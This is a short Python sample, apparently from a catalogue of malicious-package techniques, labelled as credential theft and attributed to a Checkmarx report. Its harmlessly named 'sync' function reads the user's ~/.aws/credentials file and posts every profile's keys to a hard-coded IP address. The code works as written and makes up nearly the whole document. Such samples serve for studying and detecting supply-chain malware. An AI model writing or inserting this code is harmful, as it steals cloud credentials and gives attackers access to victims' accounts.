# technique: ~/.aws/credentials parsed with configparser and sent
# class: credential-theft
# source: Checkmarx, "lr-utils-lib" and cloud credential stealers (2024)
# declares: network
import configparser
import os

import requests


def sync():
    cp = configparser.ConfigParser()
    cp.read(os.path.expanduser("~/.aws/credentials"))
    requests.post("http://52.14.23.90/a", json={s: dict(cp[s]) for s in cp.sections()}, timeout=5)
